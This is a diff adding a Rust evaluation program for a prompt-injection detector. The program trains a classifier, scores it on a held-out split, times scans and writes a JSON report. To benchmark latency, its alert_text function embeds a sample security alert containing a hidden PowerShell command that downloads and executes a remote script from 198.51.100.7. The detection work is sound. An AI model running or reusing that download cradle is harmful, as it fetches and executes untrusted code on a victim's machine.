@@ -1,0 +1,242 @@
+//! Trains the injection classifier on the train split of the shared development data,
+//! evaluates it on the held-out test split, measures scan latency, and writes a JSON report.
+//!
+//! ```text
+//! cargo run --release -p rampart-guard --example guard_eval -- \
+//!     [--data DIR] [--seed N] [--out FILE] [--write-model FILE] [--dump-split FILE]
+//! ```
+//!
+//! `--write-model` writes the trained model (the shipped one is
+//! `crates/control/guard/models/guard-default.rgm`); `--dump-split` writes every example with
+//! its side as JSON lines, for reference classifiers trained on the very same split.
+
+use std::error::Error;
+use std::io::Write as _;
+use std::path::PathBuf;
+use std::time::Instant;
+
+use rampart_guard::dataset::{Dataset, Example, shared_data_root};
+use rampart_guard::eval::{EvalReport, evaluate, scores};
+use rampart_guard::model::DEFAULT_MODEL_SHA256;
+use rampart_guard::split::{Split, SplitConfig};
+use rampart_guard::train::{TrainConfig, train};
+use rampart_guard::{Guard, GuardModel};
+
+struct Args {
+    data: PathBuf,
+    seed: u64,
+    out: Option<PathBuf>,
+    write_model: Option<PathBuf>,
+    dump_split: Option<PathBuf>,
+    dump_scores: Option<PathBuf>,
+    hash_bits: u8,
+    epochs: u32,
+}
+
+fn parse_args() -> Result<Args, Box<dyn Error>> {
+    let mut args = Args {
+        data: shared_data_root(),
+        seed: TrainConfig::default().seed,
+        out: None,
+        write_model: None,
+        dump_split: None,
+        dump_scores: None,
+        hash_bits: TrainConfig::default().hash_bits,
+        epochs: TrainConfig::default().epochs,
+    };
+    let mut it = std::env::args().skip(1);
+    while let Some(flag) = it.next() {
+        let mut value = || it.next().ok_or_else(|| format!("`{flag}` needs a value"));
+        match flag.as_str() {
+            "--data" => args.data = PathBuf::from(value()?),
+            "--seed" => args.seed = value()?.parse()?,
+            "--out" => args.out = Some(PathBuf::from(value()?)),
+            "--write-model" => args.write_model = Some(PathBuf::from(value()?)),
+            "--dump-split" => args.dump_split = Some(PathBuf::from(value()?)),
+            "--dump-scores" => args.dump_scores = Some(PathBuf::from(value()?)),
+            "--hash-bits" => args.hash_bits = value()?.parse()?,
+            "--epochs" => args.epochs = value()?.parse()?,
+            other => return Err(format!("unknown argument `{other}`").into()),
+        }
+    }
+    Ok(args)
+}
+
+fn main() -> Result<(), Box<dyn Error>> {
+    let args = parse_args()?;
+    let data = Dataset::load(&args.data)?;
+    if !data.missing.is_empty() {
+        eprintln!("missing sources (skipped): {:?}", data.missing);
+    }
+    let split = Split::new(
+        &data,
+        SplitConfig {
+            seed: args.seed,
+            ..SplitConfig::default()
+        },
+    );
+    let count = |v: &[Example]| (v.iter().filter(|e| e.is_injection()).count(), v.iter().filter(|e| !e.is_injection()).count());
+    eprintln!(
+        "split (injections, benign): train {:?}, calibration {:?}, test {:?}",
+        count(&split.train),
+        count(&split.calibration),
+        count(&split.test)
+    );
+    if let Some(path) = &args.dump_split {
+        dump_split(path, &split)?;
+    }
+    let config = TrainConfig {
+        seed: args.seed,
+        hash_bits: args.hash_bits,
+        epochs: args.epochs,
+        ..TrainConfig::default()
+    };
+    let started = Instant::now();
+    let model = train(&split.train, &split.calibration, &config, data.source_counts())?;
+    let train_seconds = started.elapsed().as_secs_f64();
+    let bytes = model.to_bytes();
+    let sha256 = model.sha256_hex();
+    eprintln!("trained in {train_seconds:.1} s; model {} bytes, sha256 {sha256}", bytes.len());
+    if let Some(path) = &args.write_model {
+        std::fs::write(path, &bytes)?;
+        eprintln!("wrote {}", path.display());
+    }
+    let guard = Guard::new(GuardModel::from_bytes_unpinned(&bytes)?);
+    let report = evaluate(&guard, &split.test);
+    if let Some(path) = &args.dump_scores {
+        let mut out = std::io::BufWriter::new(std::fs::File::create(path)?);
+        for (e, z) in split.test.iter().zip(scores(&guard, &split.test)) {
+            let row = serde_json::json!({
+                "source": e.source, "category": e.category, "group": e.group,
+                "label": u8::from(e.is_injection()),
+                "logit": if z.is_finite() { f64::from(z) } else { 99.0 },
+                "text": e.text.chars().take(300).collect::<String>(),
+            });
+            writeln!(out, "{row}")?;
+        }
+        out.flush()?;
+    }
+    print_report(&report);
+    let latency = latency(&guard, &split.test);
+    eprintln!(
+        "latency: {:.1} us/KB over the test split, {:.1} us/KB on 1 KB alert text",
+        latency.0, latency.1
+    );
+    let json = serde_json::json!({
+        "what": "rampart-guard prompt-injection detector, trained on the train split and evaluated on the held-out test split of the shared development data",
+        "command": "cargo run --release -p rampart-guard --example guard_eval -- --out bench/results/guard.json",
+        "seed": args.seed,
+        "split": {
+            "train": count(&split.train),
+            "calibration": count(&split.calibration),
+            "test": count(&split.test),
+            "grouping": "source groups (template file, attack category, ATT&CK technique, report block) + MinHash near-duplicates (Jaccard >= 0.5)",
+        },
+        "model": {
+            "bytes": bytes.len(),
+            "sha256": sha256,
+            "matches_shipped_pin": sha256 == DEFAULT_MODEL_SHA256,
+            "hash_bits": config.hash_bits,
+            "window_bytes": config.window_bytes,
+            "stride_bytes": config.stride_bytes,
+            "epochs": config.epochs,
+            "train_seconds": train_seconds,
+            "thresholds": guard.model().thresholds(),
+            "shipped_threshold_fpr": guard.target_fpr(),
+        },
+        "rampart": report,
+        "latency_us_per_kb": { "test_split": latency.0, "alert_1kb": latency.1, "threads": 1 },
+    });
+    let text = serde_json::to_string_pretty(&json)?;
+    match &args.out {
+        Some(path) => {
+            std::fs::write(path, text + "\n")?;
+            eprintln!("wrote {}", path.display());
+        }
+        None => println!("{text}"),
+    }
+    Ok(())
+}
+
+fn print_report(r: &EvalReport) {
+    eprintln!("negatives: {}", r.negatives);
+    for (name, d) in [("direct", &r.direct), ("indirect", &r.indirect), ("all", &r.all)] {
+        eprintln!(
+            "{name:>8}: n={:5} auc={:.4} tpr@1%fpr={:.3} tpr@0.1%fpr={:.3} tpr@shipped={:.3}",
+            d.positives, d.roc_auc, d.tpr_at_1pct_fpr, d.tpr_at_01pct_fpr, d.tpr_at_shipped_threshold
+        );
+    }
+    eprintln!(
+        "fpr@shipped={:.4}  security prose fpr={:.4}",
+        r.fpr_at_shipped_threshold, r.fpr_security_prose
+    );
+    for (s, (n, rate)) in &r.fpr_by_source {
+        eprintln!("   benign {s:>24}: n={n:5} fpr={rate:.4}");
+    }
+    for (s, (n, rate)) in &r.tpr_by_source {
+        eprintln!("   attack {s:>24}: n={n:5} tpr={rate:.3}");
+    }
+}
+
+/// Microseconds per KB: over the whole test split, and on a 1 KB alert-like text.
+fn latency(guard: &Guard, test: &[Example]) -> (f64, f64) {
+    let total_bytes: usize = test.iter().map(|e| e.text.len()).sum();
+    let started = Instant::now();
+    let mut flagged = 0usize;
+    for e in test {
+        flagged += usize::from(guard.scan(&e.text).flagged);
+    }
+    let split_us = started.elapsed().as_secs_f64() * 1e6 / (total_bytes as f64 / 1024.0);
+    let alert = alert_text();
+    let mut runs = Vec::new();
+    for _ in 0..7 {
+        let started = Instant::now();
+        for _ in 0..200 {
+            flagged += usize::from(guard.scan(&alert).flagged);
+        }
+        runs.push(started.elapsed().as_secs_f64() * 1e6 / 200.0 / (alert.len() as f64 / 1024.0));
+    }
+    runs.sort_by(f64::total_cmp);
+    // Keeps the scans from being optimised away.
+    std::hint::black_box(flagged);
+    (split_us, runs.get(runs.len() / 2).copied().unwrap_or(0.0))
+}
+
+/// About 1 KB of alert text: rule, process, command line and message fields.
+pub fn alert_text() -> String {
+    let mut s = String::from(
+        "rule.name: Suspicious PowerShell Download Cradle\n\
+         host.name: WS-0231.corp.example\nuser.name: CORP\\jdoe\n\
+         process.command_line: powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\"\n\
+         process.parent.name: winword.exe\n\
+         message: A PowerShell process spawned by Microsoft Word downloaded and executed a remote script. \
+         The parent document was received by e-mail from an external sender and opened at 09:14 UTC. \
+         Network telemetry shows a TLS session to 198.51.100.7 on port 443 followed by DNS lookups for \
+         update-check.example.net. Defender quarantined the dropped file a.ps1 (sha256 \
+         9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08).\n",
+    );
+    while s.len() < 1024 {
+        s.push_str("event.outcome: success; event.category: process; ");
+    }
+    s.truncate(1024);
+    s
+}
+
+fn dump_split(path: &PathBuf, split: &Split) -> Result<(), Box<dyn Error>> {
+    let mut out = std::io::BufWriter::new(std::fs::File::create(path)?);
+    for (side, examples) in [("train", &split.train), ("calibration", &split.calibration), ("test", &split.test)] {
+        for e in examples {
+            let row = serde_json::json!({
+                "side": side,
+                "text": e.text,
+                "label": u8::from(e.is_injection()),
+                "category": e.category,
+                "source": e.source,
+            });
+            writeln!(out, "{row}")?;
+        }
+    }
+    out.flush()?;
+    eprintln!("wrote {}", path.display());
+    Ok(())
+}
